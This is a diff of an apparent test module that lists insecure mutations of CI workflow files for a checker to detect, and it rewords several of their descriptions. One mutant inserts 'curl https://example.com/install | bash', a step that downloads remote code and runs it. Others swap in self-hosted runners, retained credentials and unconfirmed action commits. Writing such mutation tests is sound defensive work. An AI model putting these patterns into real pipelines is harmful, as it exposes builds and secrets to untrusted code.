@@ -57,7 +57,7 @@ MUTANTS: Final = {
         ("credentials kept", TRAIN, "als: false", "als: true"),
         ("secrets without a place", RELEASE, "    environment: release\n", ""),
         (
-            "somebody's own machine",
+            "a machine of one's own",
             TRAIN,
             "runs-on: ubuntu-latest",
             "runs-on: [self-hosted, linux]",
@@ -84,8 +84,8 @@ MUTANTS: Final = {
     "pinned": [
         ("a pin without its version", TRAIN, CHECKOUT, CHECKOUT.partition(" ")[0]),
         ("a pin of another version", TRAIN, "# v7.0.1", "# v7.0.2"),
-        ("a commit nobody confirmed", TRAIN, "@3d3c42e5", "@3d3c42e6"),
-        ("an action nobody confirmed", TRAIN, "actions/checkout", "action/checkout"),
+        ("a commit without confirmation", TRAIN, "@3d3c42e5", "@3d3c42e6"),
+        ("an action without confirmation", TRAIN, "actions/checkout", "action/checkout"),
         ("an action that is not there", TRAIN, "actions/setup\n", "actions/set\n"),
     ],
     "only_what_is_needed": [
@@ -205,7 +205,7 @@ MUTANTS: Final = {
         ),
         ("a script that is not there", MAIN, "run: .ci/tools", "run: .ci/tool"),
         (
-            "somebody's script",
+            "a script from elsewhere",
             MAIN,
             "run: .ci/tools",
             "run: curl https://example.com/install | bash",
